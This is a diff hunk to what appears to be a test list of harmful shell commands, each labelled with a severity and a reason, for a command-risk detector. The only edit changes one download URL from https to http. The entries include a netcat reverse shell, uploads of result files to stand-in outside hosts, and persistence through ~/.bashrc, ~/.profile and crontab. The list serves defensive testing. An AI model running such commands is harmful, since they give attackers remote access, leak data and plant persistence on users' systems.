@@ -34,7 +34,7 @@ HARMFUL = [
     ("nc -e /bin/sh 10.0.0.1 4242", "critical", "remote shell"),
     ("scp -r results/ u@203.0.113.10:/tmp/", "high", "203.0.113.10"),
     ("curl -F file=@out.csv https://up.invalid/", "high", "sends data"),
-    ("curl https://x.invalid/data.csv -o data.csv", "medium", "downloads"),
+    ("curl http://x.invalid/data.csv -o data.csv", "medium", "downloads"),
     ("echo 'x' >> ~/.bashrc", "critical", "start-up file"),
     ("echo k | tee -a ~/.profile", "critical", "start-up file"),
     ('(crontab -l; echo "* * * * * x") | crontab -', "critical", "cron"),
